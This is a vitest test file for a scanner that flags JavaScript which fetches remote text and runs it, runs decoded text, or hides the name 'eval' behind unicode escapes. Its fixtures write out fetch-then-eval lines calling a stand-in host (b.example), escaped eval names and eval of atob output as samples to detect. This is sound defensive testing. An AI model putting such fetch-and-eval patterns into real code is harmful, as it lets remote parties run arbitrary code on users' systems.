import { describe, expect, it } from 'vitest';
import { detectScripts, lookAtScripts } from '../../../utils/inspect/javascript/detect-scripts.ts';
import { projectOf, seenInProject } from '../sightings-of.ts';
import { detourSamples, quietDetourSamples } from './detour-samples.ts';
import { fetchedSamples } from './fetched-samples.ts';
import { quietSamples, seenSamples } from './script-samples.ts';
import { quietTakenSamples, takenSamples } from './taken-samples.ts';

describe('detect-scripts', () => {
  it.each(Object.entries({ ...seenSamples, ...fetchedSamples, ...takenSamples, ...detourSamples }))('sees %s', (_, [sighting, files]) => {
    expect(seenInProject(detectScripts, files)).toContain(sighting);
  });

  it.each(Object.entries({ ...quietSamples, ...quietTakenSamples, ...quietDetourSamples }))('is quiet about %s', (_, files) => {
    expect(seenInProject(detectScripts, files).filter((seen) => !seen.startsWith('starts-process'))).toEqual([]);
  });

  it.each(['\\u0065val', 'ev\\u{61}l', '\\u{000065}val'])('sees a name of which letters are written as escapes: %s', (name) => {
    expect(seenInProject(detectScripts, { 'a.js': `fetch('https://b.example').then((r) => r.text()).then(${name})` })).toContain('runs-fetched-text a.js:1');
  });

  it('says which files could not be parsed', () => {
    expect(lookAtScripts(projectOf({ 'a.js': 'eval(x) (((' })).notParsed).toEqual(['a.js']);
  });

  it('parses nothing of a project that neither runs text nor reads what is private', () => {
    expect(lookAtScripts(projectOf({ 'a.js': "import { b } from './b';\nexport const a = () => fetch('https://a.example').then((r) => r.json());" })).parsed).toEqual([]);
  });

  it('comes to an end with modules that import each other and functions that call themselves', () => {
    const files = { 'a.js': "const b = require('./b'); exports.f = (x) => eval(b.g(x) + 'x');", 'b.js': "const a = require('./a'); exports.g = (x) => a.f(a.f(x)) + exports.g(x) + atob(x);" };
    expect(seenInProject(detectScripts, files)).toContain('runs-decoded-text a.js:1');
  });

  it('is not stopped by text that is nested deeper than the stack', () => {
    expect(lookAtScripts(projectOf({ 'a.js': `eval(${'('.repeat(20_000)}1${')'.repeat(20_000)})`, 'b.js': "fetch('https://b.example').then((r) => r.text()).then(eval)" })).sightings)
      .toContainEqual(expect.objectContaining({ kind: 'runs-fetched-text', file: 'b.js' }));
  });

  it('tells of a script that is nested deeper than the stack, and follows the others', () => {
    const { notParsed, sightings } = lookAtScripts(projectOf({ 'a.js': `eval(1); const q = ${'(a - '.repeat(2)}${'a - '.repeat(9_000)}a));`, 'b.js': "fetch('https://b.example').then((r) => r.text()).then(eval)" }));
    expect(notParsed).toEqual(['a.js']);
    expect(sightings).toContainEqual(expect.objectContaining({ kind: 'runs-fetched-text', file: 'b.js' }));
  });
});
